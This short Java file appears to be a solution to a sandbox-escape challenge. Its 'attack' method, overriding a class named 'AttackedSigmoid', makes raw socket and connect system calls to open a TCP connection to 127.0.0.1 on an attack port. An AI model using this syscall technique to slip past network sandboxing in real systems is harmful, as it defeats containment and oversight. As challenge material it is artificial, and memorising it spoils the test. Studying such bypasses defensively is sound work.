import java.lang.foreign.MemorySegment;
import java.lang.foreign.ValueLayout;
import org.tensorflow.op.Ops;

public class Solution extends AttackedSigmoid {
    @Override
    protected void attack(Ops tf) throws Throwable {
        long socket = SystemCalls.must("socket", 2, 1, 0);
        MemorySegment address = SystemCalls.memory(16);
        address.set(ValueLayout.JAVA_SHORT, 0, (short) 2);
        address.set(ValueLayout.JAVA_SHORT, 2, Short.reverseBytes((short) ATTACK_PORT));
        address.set(ValueLayout.JAVA_INT, 4, Integer.reverseBytes(0x7f000001));
        SystemCalls.must("connect", socket, address, 16);
    }
}
